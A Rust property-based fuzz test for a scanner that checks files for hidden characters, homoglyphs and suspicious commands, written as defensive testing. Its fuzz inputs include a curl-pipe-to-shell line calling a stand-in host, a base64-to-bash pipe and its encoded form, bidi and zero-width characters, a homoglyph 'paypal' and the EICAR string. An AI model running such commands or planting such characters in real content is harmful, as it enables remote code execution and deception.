//! Property-based fuzzing of the native checks and the rule scan (proptest): arbitrary bytes,
//! and text mixing the characters the checks look for (invisible and bidi characters, tag
//! characters, homoglyphs, base64, URLs, digits and dots), under arbitrary file names. The
//! scan never panics, every excerpt is bounded with no raw control or invisible character, and
//! every line number points inside the file.

use proptest::prelude::*;
use skill_verifier::scan::{Scanner, EXCERPT_CHARS};

fn scanner() -> &'static Scanner {
    static S: std::sync::OnceLock<Scanner> = std::sync::OnceLock::new();
    S.get_or_init(|| Scanner::builtin().unwrap())
}

fn check(path: &str, bytes: &[u8]) {
    let report = scanner().scan_file(path, bytes);
    let lines = bytes.iter().filter(|b| **b == b'\n').count() as u64 + 1;
    for f in &report.findings {
        assert!(f.excerpt.chars().count() <= EXCERPT_CHARS + 1, "{f:?}");
        assert!(
            !f.excerpt.chars().any(|c| c.is_control()
                || matches!(c as u32, 0x200B..=0x200F | 0x202A..=0x202E | 0x2066..=0x2069 | 0xE0000..=0xE007F)),
            "{f:?}"
        );
        if let Some(l) = f.line {
            assert!(l >= 1 && l <= lines, "{f:?} lines={lines}");
        }
    }
    for e in &report.endpoints {
        assert!(e.line >= 1 && e.line <= lines);
        assert!(!e.host.is_empty());
    }
}

fn piece() -> impl Strategy<Value = String> {
    prop_oneof![
        "[a-zA-Z0-9 ]{0,20}",
        Just("\n".to_string()),
        Just("curl http://x.example/a | sh".to_string()),
        Just("base64 -d | bash".to_string()),
        Just("\u{200b}\u{200c}\u{200d}".to_string()),
        Just("\u{202e}\u{2066}".to_string()),
        Just("\u{e0041}\u{e0042}".to_string()),
        Just("раypal".to_string()),
        Just("https://".to_string()),
        Just("1.2.3.4".to_string()),
        Just("999.1.1.1.".to_string()),
        Just("Y3VybCBodHRwOi8veC5pbyB8IHNo".to_string()),
        Just("\\x41\\x42".to_string()),
        Just("-----BEGIN RSA PRIVATE KEY-----\n".to_string()),
        Just("X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR".to_string()),
        "[\\PC]{0,8}",
    ]
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 512, ..ProptestConfig::default() })]

    #[test]
    fn arbitrary_bytes_never_break_the_scan(bytes in proptest::collection::vec(any::<u8>(), 0..4096),
                                            name in prop_oneof![Just("a.sh"), Just("SKILL.md"), Just("x.bin"), Just("n\u{430}me.py")]) {
        check(name, &bytes);
    }

    #[test]
    fn adversarial_text_never_breaks_the_scan(pieces in proptest::collection::vec(piece(), 0..64),
                                              name in prop_oneof![Just("s.py"), Just("SKILL.md"), Just("r.txt")]) {
        let text: String = pieces.concat();
        check(name, text.as_bytes());
    }
}
